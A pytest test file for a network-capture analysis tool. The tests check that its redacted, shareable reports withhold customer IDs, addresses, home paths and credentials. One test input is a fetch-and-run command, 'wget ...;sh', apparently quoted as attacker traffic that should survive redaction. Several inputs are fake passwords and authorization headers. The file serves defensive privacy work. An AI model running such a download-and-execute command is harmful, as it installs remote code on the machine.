"""Nothing that names a customer leaves the house: not one byte of it is in any file of a shared folder."""

from __future__ import annotations

import io
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from ipaddress import IPv6Address, ip_address, ip_network
from pathlib import Path

import jsonschema
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.console import Console
from tests.report.build import nothing, source
from tests.report.rich import exchange, policy, proof, rich

from rearguard.dialogue.exchange import Hit, Inform, Secret
from rearguard.model.address import to_bytes16
from rearguard.report import findings_json, terminal, write
from rearguard.report.analysis import Analysis, SamplingLine
from rearguard.report.charts import Studio
from rearguard.report.charts.data import chart_data
from rearguard.report.inventory import load_inventory
from rearguard.report.pseudonyms import Pseudonyms
from rearguard.report.share import redacted
from rearguard.report.share_texts import SharedTexts
from rearguard.report.subscribers import load_subscribers

HOUSE = "/home/anna/captures of Exampletown"
SUBSCRIBER, CONTACT, SERIAL = "DSL-4711-K", "karl@customer.example", "SN-77-4711"
PASSWORD = "geheim99"
ADDRESSES = [
    *(str(address) for address in ip_network("198.51.100.0/24")),
    *(f"2001:db8:c::{n:x}" for n in range(1, 40)),
    *(str(address) for address in ip_network("192.0.2.8/30")),
    "192.0.2.20",
]
STRINGS = [
    SUBSCRIBER,
    CONTACT,
    SERIAL,
    PASSWORD,
    HOUSE,
    "/home",
    "anna",
    "Exampletown",
    "198.51.100.",
    "2001:db8:c",
]


def private(tmp_path: Path) -> Analysis:
    """The rich analysis, in a house that knows its customers, quoted wherever it can be quoted."""
    leases = tmp_path / "leases.csv"
    leases.write_text(
        "address,subscriber,contact\n"
        + "".join(
            f"{each},{SUBSCRIBER if n == 15 else f'DSL-{n}'},{CONTACT}\n"
            for n, each in enumerate(ADDRESSES[:256])
        )
    )
    devices = tmp_path / "devices.csv"
    devices.write_text(f"address,model,firmware,subscriber\n198.51.100.15,AC-100,1.0.3,{SUBSCRIBER}\n")
    made = rich()
    uri = f"{HOUSE}/lab.pcap"
    quoted = (
        f"POST / HTTP/1.1 Host: 198.51.100.20 Authorization: Basic {PASSWORD}",
        f"<Password>{PASSWORD}</Password><URL>http://[2001:db8:c::9]:7547/</URL>",
        f"user=x&password={PASSWORD}&line={SUBSCRIBER}&at=198-51-100-33.dsl.example",
        f"serial {SERIAL} of {CONTACT}",
    )
    said = tuple(
        exchange(
            at=60 + n,
            path=f"/?psk={PASSWORD}&ip=198.51.100.7",
            hits=(Hit("x", proof(1, 1), text, ("198.51.100.3",), (f"http://a:{PASSWORD}@198.51.100.3/",)),),
            fetch=("198.51.100.9",),
        )
        for n, text in enumerate(quoted)
    )
    bare = exchange(
        hits=(Hit("x", proof(1, 1), f"root {PASSWORD}", (), ()),),
        secrets=(Secret("telnet-login", proof(1, 1), f"{SUBSCRIBER}:********"),),
        inform=Inform("Acme", "0", "AC", SERIAL, "1", (), "http://198.51.100.15:7547/cr", proof(2, 2)),
    )
    made.view = replace(
        made.view,
        sources=(source(uri, damaged=f"{uri}: cut short"),),
        observers=(f"{uri} eth0",),
        exchanges=(*made.view.exchanges, *said, bare),
        approximations=[f"something about 198.51.100.77 in {uri}"],
    )
    findings = tuple(
        replace(
            item,
            evidence=tuple(replace(row, source=uri, note=f"{row.note} {quoted[2]}") for row in item.evidence),
            labels=(*item.labels, "at:198.51.100.5"),
            details={
                **item.details,
                "excerpt": quoted[0],
                "serial": SERIAL,
                "other": [item.id, {"198.51.100.6": quoted[3]}],
            },
        )
        for item in made.findings
    )
    return replace(
        made,
        findings=findings,
        sampling=(SamplingLine(f"{uri} eth0", 10, "policy"),),
        notes=(f"{HOUSE}/rearguard.yaml:3: 198.51.100.0/24 is odd", f"{tmp_path}/leases.csv: line 7"),
        approximations=(f"{uri}: 198.51.100.0/24",),
        subscribers=load_subscribers(leases),
        inventory=load_inventory(devices),
    )


@pytest.fixture
def studio() -> Iterator[Studio]:
    """A child that draws nothing, at once."""
    with Studio(command=(sys.executable, "-c", "print('{}')")) as quick:
        yield quick


def told(name: str, content: bytes) -> str:
    """The content of a file as text; of Parquet every value and all metadata."""
    if not name.endswith(".parquet"):
        return content.decode()
    table = pq.read_table(name)
    skipped = pa.types.is_timestamp, pa.types.is_fixed_size_binary
    kept = [field for field in table.schema if not any(has(field.type) for has in skipped)]
    rows = table.select([field.name for field in kept]).to_pylist()
    return f"{rows} {table.schema.metadata}"


def test_no_address_secret_or_subscriber_is_in_any_byte_of_a_shared_folder(
    tmp_path: Path, studio: Studio
) -> None:
    house = private(tmp_path)
    paths = write.write_report(redacted(house), tmp_path / "shared", studio)
    assert {"findings.json", "contacts.parquet", "report.html", "border.nft", "cases.csv"} <= {
        p.name for p in paths
    }
    for path in paths:
        text = told(str(path), path.read_bytes()).lower()
        for string in STRINGS:
            assert string.lower() not in text, (path.name, string)
        for item in house.findings:
            assert item.id not in text or item.subject.address not in ADDRESSES, path.name
        assert house.policy.digest not in text, path.name
    table = pq.read_table(tmp_path / "shared" / "contacts.parquet")
    ours = {packed(address) for address in ADDRESSES}
    assert not ours.intersection(table.column("client").to_pylist())
    assert not ours.intersection(table.column("server").to_pylist())


def packed(text: str) -> bytes:
    """16 bytes, as contacts.parquet has them."""
    address = ip_address(text)
    return address.packed if isinstance(address, IPv6Address) else b"\0" * 10 + b"\xff\xff" + address.packed


def test_nothing_of_the_house_is_in_the_charts_or_on_the_terminal(tmp_path: Path) -> None:
    shared = redacted(private(tmp_path))
    console = Console(record=True, width=200, file=io.StringIO())
    terminal.render(shared, console)
    for text in (str(chart_data(shared)), console.export_text()):
        assert not [string for string in STRINGS if string in text]


def test_attackers_and_models_stay(tmp_path: Path) -> None:
    content = findings_json.dumps(redacted(private(tmp_path)))
    for string in ("203.0.113.66", "198.18.66.7", "CVE-2016-10372", "lab.pcap", "Redacted edition"):
        assert string in content
    jsonschema.Draft202012Validator(findings_json.schema()).validate(findings_json.document(redacted(rich())))


def test_the_analysis_itself_is_left_as_it_is(tmp_path: Path) -> None:
    house = private(tmp_path)
    before = findings_json.dumps(house), chart_data(house), house.policy.digest, house.view.sources
    redacted(house)
    assert (findings_json.dumps(house), chart_data(house), house.policy.digest, house.view.sources) == before


def test_one_device_has_one_pseudonym_everywhere() -> None:
    shared = redacted(rich(), key=b"one run")
    fell = next(item.subject.address for item in shared.findings if item.details.get("signs") == ["fetch"])
    assert fell is not None
    assert f"{fell} then contacted" in str([item.reason for item in shared.findings])
    told_of = [item.details["fell"] for item in shared.findings if "fell" in item.details]
    assert told_of == [[fell]]
    clients = shared.view.con.execute("SELECT DISTINCT client_hi, client_lo FROM judged").fetchnumpy()
    raw = to_bytes16(clients["client_hi"].astype("u8"), clients["client_lo"].astype("u8")).tobytes()
    assert packed(fell) in {raw[at : at + 16] for at in range(0, len(raw), 16)}
    assert shared.findings == redacted(rich(), key=b"one run").findings
    assert shared.findings != redacted(rich()).findings


def test_findings_refer_to_the_new_ids_of_each_other() -> None:
    made = rich()
    first, *rest = made.findings
    linked = replace(rest[0], details={"felled_by": first.id})
    shared = redacted(replace(made, findings=(first, linked)))
    assert shared.findings[1].details["felled_by"] == shared.findings[0].id
    assert shared.border is not None
    assert shared.border.replay is not None
    assert made.border is not None
    assert made.border.replay is not None
    assert len(shared.border.replay.by_finding) == len(made.border.replay.by_finding)


def test_the_shared_filter_says_that_it_is_none() -> None:
    shared = redacted(rich())
    assert shared.border is not None
    assert all("Not to be loaded" in edge.text.splitlines()[0] for edge in shared.border.edges)


def test_two_sources_of_one_name_are_told_apart() -> None:
    made = rich()
    made.view = replace(made.view, sources=(source("/a/x.pcap"), source("/b/x.pcap"), source("-")))
    shared = redacted(made)
    assert [item.uri for item in shared.sources] == ["x.pcap", "2-x.pcap", "-"]


@pytest.mark.parametrize("networks", ["0.0.0.0/1", "2000::/3"])
def test_networks_that_leave_no_room_are_refused(networks: str) -> None:
    text = f'networks:\n  all: {{prefixes: ["{networks}"], kind: native}}\n'
    with pytest.raises(Exception, match="too large"):
        redacted(rich(policy=policy(text), border=None))


def test_an_analysis_in_which_nothing_happened_can_be_shared() -> None:
    assert redacted(nothing()).findings == ()


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("Authorization: Basic dXNlcjp4", "Authorization: Basic (withheld)"),
        (
            "authorization:Digest username=a, response=b\r\nHost: x",
            "authorization:Digest (withheld)\r\nHost: x",
        ),
        ("Cookie: sid=4711; lang=de", "Cookie: (withheld)"),
        ("user=x&password=p%40ss&go=1", "user=x&password=(withheld)&go=1"),
        ("wpa_psk = hunter2; echo", "wpa_psk = (withheld); echo"),
        ("<NewPassword>abc</NewPassword>", "<NewPassword>(withheld)</NewPassword>"),
        (
            '<PreSharedKey xsi:type="xsd:string">abc</PreSharedKey>',
            '<PreSharedKey xsi:type="xsd:string">(withheld)</PreSharedKey>',
        ),
        ("http://admin:admin@203.0.113.9/", "http://(withheld)@203.0.113.9/"),
        ("wget http://198.18.55.5/1;sh 1", "wget http://198.18.55.5/1;sh 1"),
        ("answered without being authorised: 3 of 4", "answered without being authorised: 3 of 4"),
        ("passage to the monkey island", "passage to the monkey island"),
    ],
)
def test_credentials_in_what_a_peer_wrote_are_left_out(text: str, told: str) -> None:
    assert SharedTexts(Pseudonyms([], b"key"), {}, ()).payload(text) == told


@pytest.mark.parametrize(
    "text", ["pass" * 20_000, "<" * 50_000, "://a:" * 20_000, "a/" * 30_000, "=:" * 40_000]
)
def test_a_long_text_of_a_peer_is_read_in_short_time(text: str) -> None:
    texts = SharedTexts(Pseudonyms([], b"key"), {}, ())
    begun = time.process_time()
    texts.payload(text)
    texts.place(text)
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("/home/anna/net/rearguard.yaml:3: odd", "rearguard.yaml:3: odd"),
        ("captures/monday/x.pcap: cut", "x.pcap: cut"),
        ("~/x/y.csv", "y.csv"),
        ("/var/spool/rearguard is full", "rearguard is full"),
        ("drop tcp/7547 toward 203.0.113.0/24", "drop tcp/7547 toward 203.0.113.0/24"),
    ],
)
def test_folders_of_the_house_are_left_out(text: str, told: str) -> None:
    assert SharedTexts(Pseudonyms([], b"key"), {}, ()).place(text) == told
